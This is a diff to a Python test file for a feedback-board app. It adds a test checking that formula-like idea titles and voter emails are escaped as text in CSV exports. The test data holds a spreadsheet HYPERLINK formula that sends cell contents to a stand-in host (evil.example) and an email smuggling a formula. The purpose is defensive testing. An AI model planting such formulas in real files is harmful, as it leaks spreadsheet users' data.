@@ -65,3 +65,22 @@ def test_the_product_team_answers_in_a_gated_boards_discussion(client, gold_boar
     with pytest.raises(NotFound):
         services.comment(MemberFactory(tier="bronze"), idea.id, "Let me in, I am bronze.")
     assert access.get_topic(gold, idea.topic_id).id == idea.topic_id
+
+
+def test_the_csv_exports_never_carry_a_formula(client, login_as, board, member):
+    """A member's idea title (or a voter's address) that starts like a formula is written
+    as text in the report's and the voters' CSV; the report's figures (+50%) stay as shown."""
+    import csv
+    import io
+
+    title = '=HYPERLINK("http://evil.example/?"&A1,"Open")'
+    idea = services.create_idea(member, board.id, title, "A long enough body for the idea.")
+    services.vote(MemberFactory(email="=cmd@example.com"), idea.id)
+    login_as("product")
+    report = client.get("/reports/feedback.csv").get_data(as_text=True)
+    cells = [cell for row in csv.reader(io.StringIO(report)) for cell in row]
+    assert "'" + title in cells and title not in cells
+    assert not any(c.startswith("=") for c in cells)
+    voters = client.get(f"/ideas/{idea.id}/voters.csv").get_data(as_text=True)
+    cells = [cell for row in csv.reader(io.StringIO(voters)) for cell in row]
+    assert "'=cmd@example.com" in cells and not any(c.startswith("=") for c in cells)
